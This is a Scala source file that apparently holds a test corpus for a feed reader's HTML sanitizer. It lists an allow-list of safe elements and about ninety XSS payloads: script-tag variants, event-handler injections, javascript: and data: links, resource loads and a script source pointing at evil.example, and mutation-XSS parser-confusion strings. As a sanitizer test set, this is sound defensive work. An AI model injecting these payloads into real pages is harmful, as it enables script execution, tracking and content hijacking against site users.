package weir.feeds.reader

/** Texts that would run, load, style or send something in a page that took them as they are.
  *
  * Each calls `hit()` or asks for something at `evil.example`, if it does anything at all. They are
  * the known kinds: those that the cheat sheets of OWASP and PortSwigger sort them by.
  */
object Attacks:
  /** The elements that may be left of any. */
  val harmless: Set[String] =
    ("p br hr div h1 h2 h3 h4 h5 h6 blockquote pre ul ol li dl dt dd figure figcaption table " +
      "caption thead tbody tfoot tr th td a abbr b bdi cite code del dfn em i ins kbd mark q rp " +
      "rt ruby s samp small span strong sub sup u var").split(' ').toSet

  private val scripts = Vector(
    "<script>hit()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script\u0000>hit()</script>",
    "<script/x>hit()</script>",
    "<<script>hit();//<</script>",
    "<svg><script>hit()</script></svg>",
    "<svg><script>hit&#40;&#41;</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<textarea></textarea><script>hit()</script>",
    "<xmp><script>hit()</script></xmp>",
    "<plaintext><script>hit()</script>"
  )

  private val handlers = Vector(
    "<img src=x onerror=hit()>",
    "<img src=x:x onerror\u000b=hit()>",
    "<img/src='x'/onerror='hit()'>",
    "<img \"\"\"><script>hit()</script>\">",
    "<p onclick=hit() onmouseover=hit() onpointerrawupdate=hit()>x</p>",
    "<body onload=hit()>",
    "<svg onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<a href=https://a.example onfocus=hit() autofocus tabindex=1>x</a>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<marquee onstart=hit()>x</marquee>",
    "<xss id=x style=\"animation:a 1s\" onanimationstart=hit()>x</xss>",
    "<b style=\"x\" onmouseenter=\"hit()\">x</b>",
    "<p title='\"><img src=x onerror=hit()>'>x</p>"
  )

  private val links = Vector(
    "<a href=javascript:hit()>x</a>",
    "<a href='JaVaScRiPt:hit()'>x</a>",
    "<a href='java\nscript:hit()'>x</a>",
    "<a href='&#106;avascript:hit()'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;hit()'>x</a>",
    "<a href=' \u0001javascript:hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href='vbscript:hit()'>x</a>",
    "<a href='//javascript:hit()'>x</a>",
    "<svg><a xlink:href='javascript:hit()'><text y=20>x</text></a></svg>",
    "<math href='javascript:hit()'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:hit()'>x</maction></math>",
    "<a href='https://a.example' ping='https://evil.example/ping' target=_top download>x</a>",
    "<form action='javascript:hit()'><button>x</button></form>",
    "<button formaction='javascript:hit()'>x</button>",
    "<isindex action='javascript:hit()' type=submit>",
    "<map><area href='javascript:hit()'></map>"
  )

  private val loads = Vector(
    "<img src='https://evil.example/a.png'>",
    "<img srcset='https://evil.example/b.png 2x' alt=x>",
    "<picture><source srcset='https://evil.example/c.png'><img alt=x></picture>",
    "<iframe src='https://evil.example/d'></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src='javascript:parent.hit()'></iframe>",
    "<object data='https://evil.example/e.swf'></object>",
    "<embed src='javascript:hit()'>",
    "<link rel=stylesheet href='https://evil.example/f.css'>",
    "<link rel=prefetch href='https://evil.example/g'>",
    "<style>@import 'https://evil.example/h.css'; body { display: none }</style>",
    "<div style=\"background:url('https://evil.example/i.png')\">x</div>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>x</div>",
    "<table background='https://evil.example/j.png'><tr><td background='https://evil.example/k'>x",
    "<video poster='https://evil.example/l.png'></video>",
    "<audio autoplay src='https://evil.example/m.mp3'></audio>",
    "<input type=image src='https://evil.example/n.png'>",
    "<svg><image href='https://evil.example/o.png'/></svg>",
    "<svg><use href='https://evil.example/p.svg#x'/></svg>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/q'>",
    "<meta http-equiv=refresh content='0;javascript:hit()'>",
    "<base href='https://evil.example/'>",
    "<portal src='https://evil.example/r'></portal>",
    "<frameset><frame src='https://evil.example/s'></frameset>",
    "<form id=news><input name=textContent></form><div id=live class=none>x</div>"
  )

  /** Text that one parser reads as text and another as an element. */
  private val parsers = Vector(
    "<!-- <p>--!><img src=x onerror=hit()>-->",
    "<!--><img src=x onerror=hit()>",
    "<!-- unclosed <img src=x onerror=hit()>",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml version='1.0'?><img src=x onerror=hit()>",
    "<template><img src=x onerror=hit()></template>",
    "</template></div></article></main></body></html><script>hit()</script>",
    "<template shadowrootmode=open><style>*{display:none}</style></template>",
    "</title></style></textarea></noscript><script>hit()</script>",
    "<math><mtext><table><mglyph><style><!--</style>" +
      "<img title=\"--&gt;&lt;img src=x onerror=hit()&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=hit()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></foreignObject></svg>",
    "<svg><title><a id='</title><img src=x onerror=hit()>'>",
    "<select><option><script>hit()</script></option></select>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "<p title=\"`><img src=x onerror=hit()>\">x</p>",
    "<a title='\"onclick=hit() \"' href='https://a.example/\"onclick=hit()//'>x</a>"
  )

  val all: Vector[String] = scripts ++ handlers ++ links ++ loads ++ parsers
